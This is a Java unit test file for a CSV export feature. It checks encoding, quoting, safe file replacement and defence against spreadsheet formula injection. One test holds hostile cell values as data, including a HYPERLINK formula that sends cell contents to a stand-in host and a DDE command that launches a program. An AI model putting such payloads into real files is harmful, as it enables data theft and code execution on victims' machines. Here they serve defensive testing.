package org.copydesk.ui.supervisor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvExportTest {

    @TempDir
    Path folder;

    private final TableSnapshot table = new TableSnapshot(List.of("Title", "Holder", "Notes"), List.of(
            List.of("Storm, bridge", "Ann \u00C9lise", "said \"no\"\nthen yes"),
            List.of("", "bob", "\u20AC 5")));

    @Test
    void writesRfc4180WithAByteOrderMarkAndReadsBackTheSameCells() throws IOException {
        Path file = folder.resolve("holders.csv");

        CsvExport.write(table, file);

        byte[] bytes = Files.readAllBytes(file);
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).contains("\"said \"\"no\"\"\nthen yes\"").contains("\r\n");
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            in.skip(1); // the byte order mark
            List<CSVRecord> records = CSVParser.parse(in, CSVFormat.RFC4180).getRecords();
            assertThat(records).hasSize(3);
            assertThat(records.get(0).toList()).isEqualTo(table.headers());
            assertThat(records.get(1).toList()).isEqualTo(table.rows().get(0));
            assertThat(records.get(2).toList()).isEqualTo(table.rows().get(1));
        }
    }

    @Test
    void cellsASpreadsheetWouldRunAsAFormulaAreWrittenAsText() throws IOException {
        Path file = folder.resolve("notes.csv");
        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=");
        TableSnapshot notes = new TableSnapshot(List.of("a", "b", "c", "d", "e", "f", "g"), List.of(
                hostile,
                List.of("Fine text", "-3", "+2.5", "", "a=b", "e-mail", "x@y")));

        CsvExport.write(notes, file);

        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            in.skip(1);
            List<CSVRecord> records = CSVParser.parse(in, CSVFormat.RFC4180).getRecords();
            assertThat(records.get(1).toList()).isEqualTo(hostile.stream().map(c -> "'" + c).toList());
            assertThat(records.get(2).toList()).as("numbers and text that starts harmlessly are kept as they are")
                    .containsExactly("Fine text", "-3", "+2.5", "", "a=b", "e-mail", "x@y");
        }
    }

    @Test
    void replacesAnExistingFileAndLeavesNoTemporaryFileBehind() throws IOException {
        Path file = folder.resolve("audit.csv");
        Files.writeString(file, "old content that is longer than the new one ".repeat(50));

        CsvExport.write(table, file);

        assertThat(Files.readString(file)).doesNotContain("old content");
        try (var files = Files.list(folder)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("audit.csv");
        }
    }

    @Test
    void aFailedExportLeavesTheTargetAsItWas() throws IOException {
        Path target = folder.resolve("is-a-folder.csv");
        Files.createDirectories(target.resolve("child"));

        assertThatThrownBy(() -> CsvExport.write(table, target)).isInstanceOf(IOException.class);

        assertThat(target.resolve("child")).isDirectory();
        try (var files = Files.list(folder)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("is-a-folder.csv");
        }
    }
}
